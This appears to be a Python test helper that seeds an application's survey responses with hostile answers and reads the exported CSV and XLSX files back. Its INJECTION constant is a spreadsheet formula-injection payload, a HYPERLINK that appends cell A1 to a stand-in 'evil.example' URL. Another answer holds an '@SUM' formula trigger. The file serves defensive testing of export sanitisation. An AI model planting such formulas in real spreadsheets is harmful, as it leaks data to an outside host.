"""For the exports' tests: an answered check-in round (the sample partnerships' check-ins
sent at `SENT`, answered through the portal and by mail, some answers hostile), and the
exported files read back as a spreadsheet reads them."""

from __future__ import annotations

import csv
import zipfile
from datetime import timedelta
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import Engine

from db.engine import transaction
from db.models import Response, ResponseChannel, TouchpointKind
from tests.pipeline import SENT, checkin_to, reply

AWA = "a.ndiaye@asef-senegal.example.org"
OTIENO = "g.otieno@kccpn.example.or.ke"
PENA = "mj.pena@funiter.example.co"
INJECTION = '=HYPERLINK("https://evil.example/?"&A1,"click")'
LONG = "Nous avons besoin de formation. " * 1250  # 40,000 characters
ANSWERED = SENT + timedelta(days=1)
RTL = "\u0634\u0643\u0631\u0627 \u0644\u0643\u0645"  # "thank you" in Arabic


def answer(engine: Engine, email: str, answers: dict, channel=ResponseChannel.PORTAL) -> None:
    """Record `answers` as the contact's answer to its check-in, a day after it went."""
    with transaction(engine) as session:
        message = checkin_to(session, email)
        session.add(
            Response(
                message_id=message.id,
                contact_id=message.contact_id,
                partnership_id=message.partnership_id,
                channel=channel,
                kind=str(TouchpointKind.SUSTAINABILITY_CHECKIN),
                received_at=ANSWERED,
                answers=answers,
            )
        )


def answer_checkins(checkins: Engine) -> Engine:
    """Three partners answered: ASEF's results not sustained (support needed: a formula),
    Kenya's KCCPN capacity 1/5 (a 40,000-character comment), FUNITER by e-mail (control
    characters, right-to-left text, emoji, a quoted personal link, an address)."""
    answer(checkins, AWA, {"sustained": "no", "capacity": 4, "support_needed": INJECTION})
    answer(checkins, OTIENO, {"sustained": "yes", "capacity": 1, "comment": LONG})
    words = (
        f"@SUM(1+1)\n{RTL} \U0001f44d\x07\x1b\x0b ligne\r\n"
        "voir https://portal.example.org/r/AbCdEfGhIjKlMnOpQrStUv écrire à x.y@z.example.org"
    )
    reply(checkins, PENA, words, ANSWERED + timedelta(hours=2))
    return checkins


def xlsx_rows(path: Path) -> list[tuple]:
    """Return the first sheet's rows, each as long as the header (a sheet leaves out the
    empty cells that end a row)."""
    book = load_workbook(path, read_only=True)
    rows = [tuple(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    return [row + (None,) * (len(rows[0]) - len(row)) for row in rows]


def csv_rows(path: Path) -> list[list[str]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def file_text(path: Path) -> str:
    """Return every byte of the file as text: an XLSX file's members unzipped."""
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as archive:
            return "".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    return path.read_text(encoding="utf-8-sig")
